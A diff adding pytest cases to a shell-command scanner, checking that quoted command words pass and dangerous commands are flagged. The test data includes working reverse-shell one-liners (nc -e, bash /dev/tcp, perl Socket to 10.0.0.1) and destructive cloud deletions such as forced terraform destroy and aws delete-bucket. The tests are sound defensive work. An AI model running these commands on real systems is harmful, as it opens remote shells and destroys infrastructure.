@@ -530,3 +530,44 @@ class TestKeywordPattern:
             for rule, _ in checks:
                 for needle in rule.needles:
                     assert pattern.search(f"..{needle}..") is not None, (kind, needle)
+
+
+class TestSecondBreakTest:
+    """Found by a second new-user test: a command's words quoted as data are not a command."""
+
+    @pytest.mark.parametrize(
+        "value",
+        [
+            'grep -rn "terraform destroy" .',
+            'git commit -m "fix: terraform destroy no longer runs in CI"',
+            "echo 'kubectl delete ns prod' >> runbook.md",
+            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+            "terraform plan -out plan.bin",
+        ],
+    )
+    def test_benign(self, value: str) -> None:
+        assert not [f for f in scan(value, K.COMMAND) if f[1] in (P0, P1)], value
+
+    @pytest.mark.parametrize(
+        ("value", "category"),
+        [
+            ('bash -c "terraform destroy"', "destructive_command"),
+            ("cd infra && sudo terraform destroy -auto-approve", "destructive_command"),
+            ("aws s3api delete-bucket --bucket prod", "destructive_command"),
+            ("aws cloudformation delete-stack --stack-name prod", "destructive_command"),
+            ("az vm delete -g rg -n vm --yes", "destructive_command"),
+            ("nc.traditional -e /bin/sh 1.2.3.4 80", "reverse_shell"),
+            (
+                "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
+                "reverse_shell",
+            ),
+            (
+                'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
+                'connect(S,sockaddr_in(1234,inet_aton("10.0.0.1")));open(STDIN,">&S");'
+                'exec("/bin/sh -i");\'',
+                "reverse_shell",
+            ),
+        ],
+    )
+    def test_caught(self, value: str, category: str) -> None:
+        assert (category, P0) in scan(value, K.COMMAND), value
